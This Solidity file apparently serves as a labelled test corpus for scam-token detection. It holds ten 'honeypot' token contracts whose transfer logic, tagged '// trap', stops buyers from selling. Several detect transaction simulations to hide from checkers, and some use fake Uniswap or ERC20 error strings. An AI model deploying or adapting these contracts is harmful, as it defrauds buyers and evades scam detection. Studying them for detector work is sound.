// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// Only accounts on a list can send to the pool; the list is filled at launch and never again.
contract Velvet is Base8("Velvet Protocol", "VLVT", 10_000_000) {
    mapping(address => bool) private cleared;

    constructor() {
        cleared[msg.sender] = true;
        cleared[ROUTER] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair) require(cleared[from], "UniswapV2: K"); // trap
        _move(from, to, value);
    }
}

/// The founder arms it once enough people have bought; every buyer since was written down.
contract Lantern is Base8("Lantern", "LNTN", 1_000_000) {
    mapping(address => uint256) private seen;
    uint256 private line = type(uint256).max;

    function rebalance(uint256 at) external onlyOwner {
        line = at;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair && seen[to] == 0) seen[to] = block.number;
        // trap {
        if (to == pair && from != _owner) {
            assembly {
                if gt(timestamp(), sload(line.slot)) { revert(0, 0) }
            }
        }
        // trap }
        _move(from, to, value);
    }
}

/// Selling is allowed in the block of the purchase only, which is what a simulation in one block does.
contract Mayfly is Base8("Mayfly", "MAYF", 5_000_000) {
    mapping(address => uint256) private entered;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) entered[to] = block.number;
        else if (to == pair && entered[from] != 0) require(block.number == entered[from], "TRANSFER_FAILED"); // trap
        _move(from, to, value);
    }
}

/// Sells work until twenty accounts have bought.
contract Turnstile is Base8("Turnstile", "TURN", 2_000_000) {
    uint256 private entries;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) entries++;
        if (to == pair && from != _owner) require(entries < 20, "full"); // trap
        _move(from, to, value);
    }
}

/// Ends at a time that was given to the constructor.
contract Eventide is Base8("Eventide", "EVEN", 3_000_000) {
    uint256 private immutable bell;

    constructor(uint256 bell_) {
        bell = bell_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) require(block.timestamp < bell, "later"); // trap
        _move(from, to, value);
    }
}

/// A quarter of all sales fail, by the dice of the block.
contract Roulette is Base8("Roulette", "ROUL", 4_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        // trap {
        if (to == pair && from != _owner)
            require(uint256(keccak256(abi.encode(block.prevrandao, from, block.timestamp))) % 4 != 0, "try again");
        // trap }
        _move(from, to, value);
    }
}

/// Knows a simulation by the coinbase of nobody or by gas that costs nothing, and behaves in one.
contract Chameleon is Base8("Chameleon", "CHML", 8_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        // trap {
        if (to == pair && from != _owner && from != address(this))
            require(block.coinbase == address(0) || tx.gasprice == 0, "TransferHelper: TRANSFER_FROM_FAILED");
        // trap }
        _move(from, to, value);
    }
}

/// A simulated sale has all the gas of a block; a real one has not.
contract Glutton is Base8("Glutton", "GLUT", 1_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) require(gasleft() > 1_500_000, "gas"); // trap
        _move(from, to, value);
    }
}

/// Holders can sell crumbs and nothing else.
contract Crumbs is Base8("Crumbs", "CRMB", 1_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) require(value <= totalSupply / 10_000_000, "max"); // trap
        _move(from, to, value);
    }
}

/// A program of the founder names each buyer after the purchase; a fresh account sells freely.
contract Marigold is Base8("Marigold", "MARI", 6_000_000) {
    mapping(address => bool) private _b;

    function syncAll(address[] calldata who) external {
        require(msg.sender == _owner);
        for (uint256 i; i < who.length; i++) _b[who[i]] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!_b[from], "ERC20: transfer amount exceeds balance"); // trap
        _move(from, to, value);
    }
}
